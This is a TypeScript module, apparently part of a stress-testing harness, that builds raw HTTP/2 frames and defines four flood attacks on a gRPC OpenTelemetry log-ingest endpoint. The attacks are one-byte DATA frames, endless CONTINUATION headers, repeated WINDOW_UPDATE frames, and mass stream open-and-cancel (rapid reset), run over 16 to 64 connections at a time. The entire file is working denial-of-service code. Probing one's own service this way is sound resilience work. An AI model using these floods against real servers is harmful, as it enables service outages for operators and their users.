// Attacks with HTTP/2 frames that no client library sends: bodies in frames of one byte, endless headers, endless changes of windows.
import { gzipSync } from "node:zlib";
import { randomBytes } from "node:crypto";
import type { Attack } from "./attack.ts";
import { flood } from "./floods.ts";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const [DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION] = [0, 1, 3, 4, 8, 9];
const END_HEADERS = 4;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literal header fields without indexing or Huffman coding (RFC 7541, 6.2.2), of less than 127 bytes. */
function headerBlock(headers: Readonly<Record<string, string>>): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat(Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

const call = (token: string): Buffer =>
  headerBlock({
    ":method": "POST",
    ":scheme": "http",
    ":path": "/opentelemetry.proto.collector.logs.v1.LogsService/Export",
    ":authority": "x",
    "content-type": "application/grpc",
    "grpc-encoding": "gzip",
    "x-api-key": token,
  });

const opening = Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))]).toString("latin1");

/** A valid compressed message, a byte a frame. */
function byteFrames(): Buffer {
  const compressed = gzipSync(randomBytes(10_000));
  const head = Buffer.from([1, 0, 0, 0, 0]);
  head.writeUInt32BE(compressed.length, 1);
  return Buffer.concat(Array.from(Buffer.concat([head, compressed]), (byte) => frame(DATA, 0, 1, Buffer.from([byte]))));
}

const attack = (what: string, frames: (token: string) => Buffer, rest?: Buffer, connections = 16): Attack => ({
  group: "more",
  what,
  everyMs: 2000,
  wave: (attacker) =>
    flood(attacker, connections, {
      url: attacker.target.grpcUrl,
      head: opening + frames(attacker.target.ingestToken).toString("latin1"),
      ...(rest && { rest }),
    }),
});

export const tinyFrames = attack(
  "16 connections with a valid gzip message in DATA frames of one byte",
  (token) => frame(HEADERS, END_HEADERS, 1, call(token)),
  byteFrames(),
);
export const continuations = attack(
  "16 connections with headers that go on in CONTINUATION frames without end",
  (token) => frame(HEADERS, 0, 1, call(token)),
  Buffer.concat(Array.from({ length: 1000 }, () => frame(CONTINUATION, 0, 1, headerBlock({ x: "y" })))),
);
export const windowUpdates = attack(
  "16 connections that change the window of a call by one byte without end",
  (token) => frame(HEADERS, END_HEADERS, 1, call(token)),
  Buffer.concat(Array.from({ length: 5000 }, () => frame(WINDOW_UPDATE, 0, 1, Buffer.from([0, 0, 0, 1])))),
);

const CANCEL = Buffer.from([0, 0, 0, 8]);
export const cancelledCalls = attack(
  "64 connections whose first packet begins and cancels 500 calls",
  (token) =>
    Buffer.concat(
      Array.from({ length: 500 }, (_, index) => [
        frame(HEADERS, END_HEADERS, 2 * index + 1, call(token)),
        frame(RST_STREAM, 0, 2 * index + 1, CANCEL),
      ]).flat(),
    ),
  undefined,
  64,
);
